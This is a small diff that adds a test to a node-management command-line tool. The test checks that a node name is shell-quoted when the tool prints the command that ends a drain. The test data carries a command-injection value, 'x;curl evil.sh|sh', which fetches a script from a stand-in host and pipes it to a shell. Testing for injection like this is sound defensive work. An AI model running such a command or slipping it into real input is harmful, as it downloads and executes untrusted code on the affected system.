@@ -138,6 +138,12 @@ def test_draining_the_last_machine_that_works_says_that_what_runs_waits(daemon, 
     ]
 
 
+def test_a_name_is_one_word_in_the_command_that_ends_a_drain(daemon, ctl):
+    daemon.results["node.role"] = {"node": "aa", "name": "x;curl evil.sh|sh", "role": "idle"}
+    drained = ctl("node", "drain", "aa").out
+    assert "jupiterctl node resume 'x;curl evil.sh|sh'\n" in drained
+
+
 def test_a_node_is_drained_and_resumed(daemon, ctl):
     daemon.results["node.role"] = {"node": "aa", "name": "old-laptop", "role": "idle"}
     drained = ctl("node", "drain", "old-laptop")
